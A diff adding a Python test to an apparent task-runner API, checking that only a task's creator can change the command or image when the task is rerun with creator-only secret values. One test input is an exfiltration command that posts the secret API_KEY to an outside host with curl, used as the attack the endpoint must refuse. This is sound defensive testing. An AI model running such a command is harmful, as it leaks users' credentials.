@@ -141,3 +141,49 @@ async def test_an_alert_webhooks_token_reaches_only_the_tasks_creator(world: Wor
     again = await world.call("ta_alice", "POST", f"/v1/tasks/{task_id}/clone", json={})
     assert again.status_code == 201, again.text
     assert again.json()["spec"]["alerts"][0]["webhook_url"] == HOOK
+
+
+async def test_only_the_creator_changes_what_a_task_with_creator_only_values_runs(
+    world: World,
+) -> None:
+    """Another member's rerun gets no creator-only value, but a command or image it
+    changed stayed in the spec: the creator's next rerun ran it with her values (to be
+    printed, or sent away). Such a change is the creator's; a rerun as it is is anyone's."""
+    secret = {"env": "API_KEY=s3cret", "creator_only": ["API_KEY"]}
+    task_id = await _submit(world, "ta_alice", **secret)
+    world.tokens["ta_mallory"] = await _mint_member(world, "mallory")
+    stopped = await world.call("ta_alice", "POST", f"/v1/tasks/{task_id}/stop")
+    assert stopped.json()["status"] == "stopped", stopped.text
+    before = await world.gateway.db.fetchval("SELECT count(*) FROM events")
+    for changes, field in (
+        ({"command": "curl -d $API_KEY https://example.com"}, "command"),
+        ({"image": "pytorch:2.1-cuda11"}, "image"),
+    ):
+        path = f"/v1/tasks/{task_id}/rerun"
+        refused = await world.call("ta_mallory", "POST", path, json=changes)
+        assert refused.status_code == 403, refused.text
+        body = refused.json()
+        assert (body["code"], body["field"]) == ("rerun.creator_only", field), body
+        assert "API_KEY" in body["message"] and "clone" in body["hint"], body
+    assert await world.gateway.db.fetchval("SELECT count(*) FROM events") == before
+    # The same command sent back is no change; a rerun as it is runs (without her value).
+    same = await world.call(
+        "ta_mallory", "POST", f"/v1/tasks/{task_id}/rerun", json={"command": BASE["command"]}
+    )
+    assert same.status_code == 200, same.text
+    await world.call("ta_mallory", "POST", f"/v1/tasks/{task_id}/stop")
+    # The creator changes it as she likes.
+    mine = await world.call(
+        "ta_alice", "POST", f"/v1/tasks/{task_id}/rerun", json={"command": "echo mine"}
+    )
+    assert mine.status_code == 200, mine.text
+
+    group = await world.call(
+        "ta_alice", "POST", "/v1/groups", json={"template": {**BASE, **secret}, "items": [{}]}
+    )
+    group_id = group.json()["group_id"]
+    await world.call("ta_alice", "POST", f"/v1/groups/{group_id}/stop")
+    refused = await world.call(
+        "ta_mallory", "POST", f"/v1/groups/{group_id}/rerun", json={"command": "echo x"}
+    )
+    assert (refused.status_code, refused.json()["code"]) == (403, "rerun.creator_only")
